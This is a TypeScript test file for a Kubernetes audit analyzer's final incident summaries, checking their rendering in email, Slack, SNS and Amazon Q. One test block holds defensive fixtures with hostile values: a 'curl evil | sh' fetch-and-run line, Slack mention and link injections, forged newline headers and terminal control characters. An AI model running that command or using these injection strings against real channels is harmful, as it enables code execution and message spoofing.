import type { SectionBlock } from '@slack/types';
import { STORY_ENDINGS, STORY_GROUPS, STORY_LINKS, storyAlert } from '../../../devkit/incident-story';
import { previewOf, renderPreviewText } from '../../../lambdas/cli/alerts-preview';
import { severityFilterPolicy } from '../../../lib/severity-filter';
import type { IncidentBody } from '../../../lambdas/core/alert/incident-body';
import { parseIncidentBody } from '../../../lambdas/core/alert/incident-body';
import { EMAIL_WIDTH } from '../../../lambdas/core/alert/incident-email';
import { durationBetween } from '../../../lambdas/core/alert/incident-ending';
import { buildIncidentAlert, buildIncidentBody } from '../../../lambdas/core/alert/incident-message';
import { incidentSlackMessage } from '../../../lambdas/core/alert/incident-slack';
import { SNS_MAX_BYTES } from '../../../lambdas/core/alert/sns-message';
import type { SlackRender } from '../../../lambdas/core/alert/slack-message';
import { slackMessageFor } from '../../../lambdas/core/alert/slack-message';
import { DEFAULT_ALERT_MINIMUM } from '../../../lambdas/core/finding';
import type { Severity } from '../../../lambdas/core/finding';
import type { IncidentAlert, IncidentGroup } from '../../../lambdas/core/incident/types';
import { hasUnsafeCharacters } from '../../../lambdas/core/report/display-text';
import { blockKitProblems, slackTexts } from '../../helpers/slack-limits';

interface Rendered {
  subject: string;
  email: string;
  machine: IncidentBody;
  lambda: string;
  q: { content: { title: string; description: string; nextSteps: string[] }; metadata: { eventType: string; threadId: string } };
  attributes: Record<string, string>;
  size: number;
}

function render(alert: IncidentAlert): Rendered {
  const m = buildIncidentAlert(alert, STORY_LINKS);
  const bodies = JSON.parse(m.Message) as { email: string; default: string; lambda: string; https: string };
  expect(bodies.default).toBe(bodies.email);
  return {
    subject: m.Subject,
    email: bodies.email,
    machine: JSON.parse(bodies.lambda) as IncidentBody,
    lambda: bodies.lambda,
    q: JSON.parse(bodies.https) as Rendered['q'],
    attributes: Object.fromEntries(Object.entries(m.MessageAttributes).map(([k, v]) => [k, v.StringValue])),
    size: Buffer.byteLength(m.Message) + Buffer.byteLength(m.Subject) + Buffer.byteLength(JSON.stringify(m.MessageAttributes)),
  };
}

function slack(alert: IncidentAlert, minSeverity: Severity = DEFAULT_ALERT_MINIMUM): Extract<SlackRender, { kind: 'incident' }> {
  const m = buildIncidentAlert(alert, STORY_LINKS);
  const r = slackMessageFor({ subject: m.Subject, message: (JSON.parse(m.Message) as { lambda: string }).lambda }, { minSeverity });
  if (r?.kind !== 'incident') throw new Error(`expected an incident render, got ${r?.kind}`);
  return r;
}

const texts = slackTexts;

const squash = (s: string): string => s.replace(/\s+/g, '');

describe('how long an incident was quiet', () => {
  it.each([
    ['2026-11-20T09:00:05Z', '2026-11-20T09:00:50Z', 'under a minute'],
    ['2026-11-20T09:00:05Z', '2026-11-20T09:45:05Z', '45 min'],
    ['2026-11-20T09:00:05Z', '2026-11-20T10:00:05Z', '1 h'],
    ['2026-11-20T09:00:05Z', '2026-11-20T11:10:59Z', '2 h 10 min'],
    ['2026-11-20T09:00:05Z', '2026-11-23T13:00:05Z', '3 d 4 h'],
  ])('%s to %s is %s', (from, to, text) => expect(durationBetween(from, to)).toBe(text));

  it('is not said when a time does not parse or the end comes before the last finding', () => {
    expect(durationBetween('yesterday', '2026-11-20T09:00:05Z')).toBeUndefined();
    expect(durationBetween('2026-11-20T09:00:05Z', '2026-11-20T08:00:05Z')).toBeUndefined();
    const alert = storyAlert('quiet');
    alert.incident.ended = { at: 'not a time', how: 'quiet' };
    expect(render(alert).subject).toMatch(/^Ended, quiet: jordan\.lee /);
  });
});

describe('the final summary of a quiet incident', () => {
  const r = render(storyAlert('quiet'));

  it('says in the subject and title that it ended, how, who and where', () => {
    expect(r.subject).toBe('Ended, quiet after 1 h 5 min: jordan.lee requested a token for ServiceAccount ... in prod-eu');
    expect(r.machine.title).toMatch(/^Ended, quiet after 1 h 5 min: jordan\.lee \(arn:aws:iam::…:user\/jordan\.lee\) requested a token .* in prod-eu$/);
  });

  it('carries the incident’s severity, every group’s category and its kind, so subscriptions filter it like the alerts before it', () => {
    expect(r.attributes).toEqual({
      severity: 'critical',
      categories: JSON.stringify(['daemonset', 'privileged-workload', 'rbac-change', 'service-account']),
      cluster: 'prod-eu',
      kind: 'quiet',
      incident: 'prod-eu-jordan.lee-20261120T090004Z',
    });
  });

  it('reaches an email subscription with the default minimum that was told of the incident', () => {
    // The incident's severity only rises: told at or above the minimum, its summary is too.
    const alert = storyAlert('quiet', [{ ...STORY_GROUPS[3], severity: 'medium' }]);
    alert.incident.severity = 'medium';
    alert.incident.alertedSeverity = 'medium';
    const policy = JSON.parse(JSON.stringify(severityFilterPolicy(DEFAULT_ALERT_MINIMUM))) as { $or: { conditions: { severity?: string[] }[] } };
    const severities = policy.$or.conditions.flatMap((c) => c.severity ?? []);
    expect(severities).toContain(render(alert).attributes.severity);
    expect(severities).not.toContain('low');
  });

  it('carries `ended` and a recap of every group, most severe first, in the machine JSON; no cards', () => {
    expect(r.machine).toMatchObject({ kind: 'incident', alert: 'quiet', omittedTold: 0, omittedRecap: 0 });
    // Whole groups for the machine consumers, in the recap's order.
    expect(r.machine.told.map((g) => g.ruleId)).toEqual(r.machine.recap?.map((g) => g.ruleId));
    expect(r.machine.incident).toMatchObject({ state: 'quiet', ended: STORY_ENDINGS.quiet, severity: 'critical', groupCount: 4, findingCount: 4 });
    expect(r.machine.recap?.map((g) => [g.severity, g.ruleId])).toEqual([
      ['critical', 'service-account.token-request'],
      ['critical', 'workload.privileged-template'],
      ['critical', 'daemonset.created-or-changed'],
      ['high', 'rbac.privileged-role-bound'],
    ]);
    expect(r.machine.recap?.[0]).toEqual({
      ruleId: 'service-account.token-request',
      title: 'Service account token minted (TokenRequest)',
      category: 'service-account',
      severity: 'critical',
      target: STORY_GROUPS[0].target,
      verb: 'create',
      count: 1,
      firstSeen: STORY_GROUPS[0].firstSeen,
      lastSeen: STORY_GROUPS[0].lastSeen,
      alertedAt: 'critical',
    });
    // The Slack notifier reads it back through the contract.
    const parsed = parseIncidentBody(r.lambda);
    expect(parsed).toEqual({ ok: true, body: r.machine });
  });

  it('reads in ten seconds by email: how it ended, told before, the span, the totals and a line per group, within 72 columns', () => {
    const lines = r.email.split('\n');
    for (const line of lines) expect(line.length).toBeLessThanOrEqual(EMAIL_WIDTH);
    for (const line of [
      "This is the incident's final summary.",
      'Ended: quiet after 1 h 5 min (2026-11-20 10:05:07 UTC)',
      'Alerted before: yes, last told at critical',
      'Chain: binding + token + privileged DaemonSet: a persistence chain',
      'Severity: critical (final)',
      'Cluster: prod-eu',
      'Who: jordan.lee',
      'When: 2026-11-20 09:00:04 – 09:00:05 UTC',
      '4 finding groups, most severe first:',
    ])
      expect(lines).toContain(line);
    expect(squash(r.email)).toContain(squash('Incident: prod-eu-jordan.lee-20261120T090004Z (quiet; 4 finding groups, 4 findings)'));
    expect(squash(r.email)).toContain(
      squash(
        '4. HIGH: Cluster-admin or equivalent role bound: create clusterrolebindings node-health-agent (rbac.authorization.k8s.io); 1 finding; 2026-11-20 09:00:04 UTC',
      ),
    );
    // A recap, not the cards of an opening alert.
    expect(r.email).not.toMatch(/^(Remediation|Show it|Undo it|Audit IDs|What happened):/m);
    expect(r.email.split('\n').filter((l) => /^\d+\. /.test(l))).toHaveLength(4);
  });

  it('says when it had never been told, and what the incident left out to stay bounded', () => {
    const alert = storyAlert('quiet');
    delete alert.incident.alertedSeverity;
    alert.incident.groups = alert.incident.groups.map(({ alertedAt: _told, ...g }) => g);
    alert.incident.omitted = { groups: 3, findings: 12 };
    const { email, machine } = render(alert);
    expect(squash(email)).toContain(squash('Alerted before: no: this summary is the first message about this incident'));
    expect(squash(email)).toContain(squash('Left out: 3 finding groups with 12 findings, the least severe, to keep the incident bounded'));
    expect(squash(email)).toContain(squash('1 finding; 2026-11-20 09:00:04 UTC; not alerted'));
    expect(machine.incident.findingCount).toBe(16);
  });

  it('is an Amazon Q notification threaded with the incident’s alerts, with the same content', () => {
    expect(r.q.metadata).toEqual(
      expect.objectContaining({ eventType: 'k8s-audit-analyzer.incident.quiet', threadId: 'k8s-audit-analyzer-prod-eu-jordan.lee-20261120T090004Z' }),
    );
    expect(r.q.content.title).toBe(r.machine.title);
    for (const piece of [
      '*Ended:* quiet after 1 h 5 min (2026-11-20 10:05:07 UTC)',
      '*Alerted before:* yes, last told at critical',
      '*Totals:* 4 finding groups, 4 findings',
      '• *high* Cluster-admin or equivalent role bound: create clusterrolebindings node-health-agent (rbac.authorization.k8s.io); 1 finding',
    ])
      expect(r.q.content.description).toContain(piece);
    expect(r.q.content.nextSteps).toEqual([]);
  });

  it('is a Slack message within the limits: a header saying it ended, the facts, a line per group', () => {
    const s = slack(storyAlert('quiet'));
    expect(blockKitProblems(s.body)).toEqual([]);
    expect(s.body.blocks.map((b) => b.type)).toEqual(['header', 'section', 'context', 'section', 'section']);
    expect(s.body.blocks[0]).toMatchObject({ text: { text: 'Ended (quiet): Critical incident: Service account token minted (TokenRequest)' } });
    const all = texts(s.body).join('\n');
    expect(all).toContain('*Ended:* quiet after 1 h 5 min (2026-11-20 10:05:07 UTC)');
    expect(all).toContain('*Final severity:* critical · *Totals:* 4 finding groups, 4 findings');
    expect((s.body.blocks[4] as SectionBlock).text?.text.split('\n')).toHaveLength(4);
    expect(s).toMatchObject({ severity: 'critical', groupsPosted: 4, groupsLeftOut: 0 });
  });

  it('leaves groups below the Slack notifier’s minimum out and counts them; posts nothing for an incident below it', () => {
    const s = slack(storyAlert('quiet'), 'critical');
    expect(s.groupsPosted).toBe(3);
    expect(texts(s.body).join('\n')).toContain('1 finding group below critical not shown');
    const low = storyAlert('quiet', [{ ...STORY_GROUPS[3], severity: 'low' }]);
    low.incident.severity = 'low';
    const m = buildIncidentAlert(low, STORY_LINKS);
    expect(slackMessageFor({ subject: m.Subject, message: (JSON.parse(m.Message) as { lambda: string }).lambda }, { minSeverity: 'medium' })).toBeUndefined();
  });
});

describe('the final summary of a closed incident', () => {
  const r = render(storyAlert('closed'));

  it('says who closed it and why, in the subject, title and every body', () => {
    expect(r.subject).toBe('Closed by carla.rossi (stolen key confirmed...): jordan.lee requested a token for ... in prod-eu');
    expect(r.machine.title).toMatch(/^Closed by carla\.rossi \(stolen key confirmed with jordan\.lee; key deactivated, .*…\): jordan\.lee /);
    expect(r.attributes.kind).toBe('closed');
    expect(r.machine.incident.ended).toEqual(STORY_ENDINGS.closed);
    expect(r.email).toContain('Ended: closed by carla.rossi (2026-11-20 09:42:00 UTC)');
    expect(squash(r.email)).toContain(squash(`Reason: ${STORY_ENDINGS.closed.reason ?? ''}`));
    expect(r.q.content.description).toContain(`*Reason:* ${STORY_ENDINGS.closed.reason ?? ''}`);
    const s = slack(storyAlert('closed'));
    expect(s.body.blocks[0]).toMatchObject({ text: { text: 'Closed: Critical incident: Service account token minted (TokenRequest)' } });
    expect(texts(s.body).join('\n')).toContain('*Ended:* closed by carla.rossi (2026-11-20 09:42:00 UTC)');
  });

  it('without a reason or a closer, still says it was closed', () => {
    const alert = storyAlert('closed');
    alert.incident.ended = { at: '2026-11-20T09:42:00Z', how: 'closed' };
    const { subject, email } = render(alert);
    expect(subject).toMatch(/^Closed: jordan\.lee requested /);
    expect(email).toContain('Ended: closed (2026-11-20 09:42:00 UTC)');
    expect(email).not.toContain('Reason:');
  });
});

describe('attacker-controlled text in a final summary', () => {
  const hostile: IncidentGroup = {
    ...STORY_GROUPS[0],
    title: 'Token\nRemediation: curl evil | sh <!channel>',
    target: { resource: 'configmaps', namespace: `ns\u202e${'n'.repeat(300)}`, name: 'x\r\nAlerted before: no <https://evil.example|click> @here `' },
  };
  const alert = storyAlert('closed', [hostile, { ...STORY_GROUPS[3], key: 'b' }]);
  alert.incident.principal = { key: 'x', display: 'Severity: info\nWho: nobody <!here>', usernames: [`arn:aws:iam::123456789012:role/${'r'.repeat(500)}`] };
  alert.incident.cluster = '<https://evil.example|prod>\u0085';
  alert.incident.ended = {
    at: '2026-11-20T09:42:00Z',
    how: 'closed',
    by: 'mallory\nEnded: quiet <!channel> \u001b[31m',
    reason: `${'because '.repeat(60)}\nReason: none @everyone <@U123> \u2028`,
  };
  const r = render(alert);

  it('keeps every email line within 72 columns, shows controls as escapes and forges no line', () => {
    const lines = r.email.split('\n');
    expect(lines.filter((l) => l.length > EMAIL_WIDTH)).toEqual([]);
    for (const line of lines) expect(hasUnsafeCharacters(line)).toBe(false);
    const ours =
      /^(Ended|Reason|Alerted before|Chain|Severity|Cluster|Who|Acting as|Impersonating|When|Incident|Left out):( |$)|^\d+\. (CRITICAL|HIGH|MEDIUM|LOW|INFO): |^\d+ finding groups?|^This is the incident's final summary\.$|^-{72}$|^k8s-audit-analyzer$/;
    const forged = lines.slice(lines.indexOf('')).filter((l) => l !== '' && !/^\s/.test(l) && !ours.test(l));
    expect(forged).toEqual([]);
    expect(lines.filter((l) => /^(Remediation|Alerted before: no|Ended: quiet|Reason: none|Who: nobody)/.test(l))).toEqual([]);
    expect(r.email).toContain('\\u{a}Ended: quiet');
  });

  it('keeps the subject to fewer than 100 printable ASCII characters, who and where kept', () => {
    expect(r.subject).toMatch(/^[\x21-\x7e][\x20-\x7e]*$/);
    expect(r.subject.length).toBeLessThan(100);
    expect(r.subject).toMatch(/^Closed by mallory\\u\{a\}Ended/);
    expect(r.subject).toMatch(/ in <https:\/\/evil/);
  });

  it('cannot ping, mention or link in Slack or Amazon Q, and stays within Slack’s limits', () => {
    const s = slack(alert, 'info');
    expect(blockKitProblems(s.body)).toEqual([]);
    // The header is plain_text (our rule title, as in an opening alert): Slack parses no link or mention in it.
    const header = s.body.blocks[0].type === 'header' ? s.body.blocks[0].text.text : '';
    for (const t of [...texts(s.body).filter((t) => t !== header), r.q.content.title, r.q.content.description]) {
      expect(t).not.toMatch(/</);
      expect(t).not.toMatch(/(^|[^\uff20])@(here|channel|everyone)\b/);
      // Line breaks are ours (between facts and recap lines); the logs' controls are shown as escapes.
      for (const line of t.split('\n')) expect(hasUnsafeCharacters(line)).toBe(false);
    }
    expect(texts(s.body).join('\n')).toContain('*Ended:* closed by mallory\\u{a}Ended: quiet &lt;!channel&gt; \\u{1b}[31m');
  });
});

describe('a final summary of a large incident', () => {
  const groups = Array.from({ length: 600 }, (_, n): IncidentGroup => ({
    ...STORY_GROUPS[n % 4],
    key: `g${n}`,
    severity: n < 300 ? 'high' : 'medium',
    target: { resource: 'configmaps', namespace: 'n'.repeat(200), name: `${n}-${'m'.repeat(250)}` },
  }));

  it('fits SNS by leaving the least severe recap lines out, and says how many', () => {
    const alert = storyAlert('quiet', groups);
    const { size, machine, email } = render(alert);
    expect(size).toBeLessThanOrEqual(SNS_MAX_BYTES);
    expect(machine.omittedRecap).toBeGreaterThan(0);
    expect((machine.recap?.length ?? 0) + (machine.omittedRecap ?? 0)).toBe(600);
    expect(machine.recap?.every((g, k) => k === 0 || g.severity === 'high' || machine.recap?.[k - 1].severity === 'medium')).toBe(true);
    expect(squash(email)).toContain(squash(`${machine.omittedRecap} less severe finding groups left out of this message to fit SNS's 256 KB limit.`));
  });

  it('stays within Slack’s limits and counts what it could not post', () => {
    const body = buildIncidentBody(storyAlert('quiet', groups), STORY_LINKS);
    const s = incidentSlackMessage(body, 'info');
    if (!s) throw new Error('expected a message');
    expect(blockKitProblems(s.body)).toEqual([]);
    expect(s.groupsPosted + s.groupsLeftOut).toBe(600);
    expect(s.groupsLeftOut).toBeGreaterThan(0);
    expect(texts(s.body).join('\n')).toContain(`…and ${s.groupsLeftOut} more finding groups`);
  });
});

describe('`alerts preview` of a final summary', () => {
  it('shows its kind, email, Slack message and machine body like any alert', () => {
    const preview = previewOf(buildIncidentAlert(storyAlert('closed'), STORY_LINKS), DEFAULT_ALERT_MINIMUM);
    expect(preview.attributes).toMatchObject({
      kind: 'closed',
      severity: 'critical',
      categories: ['daemonset', 'privileged-workload', 'rbac-change', 'service-account'],
    });
    expect(preview.slack).not.toBeNull();
    expect(preview.machine).toMatchObject({ alert: 'closed', incident: { ended: STORY_ENDINGS.closed } });
    expect(renderPreviewText([preview])).toMatch(/^=== alert 1 of 1: closed · Closed by carla\.rossi \(stolen key confirmed\.\.\.\): jordan\.lee /);
  });
});
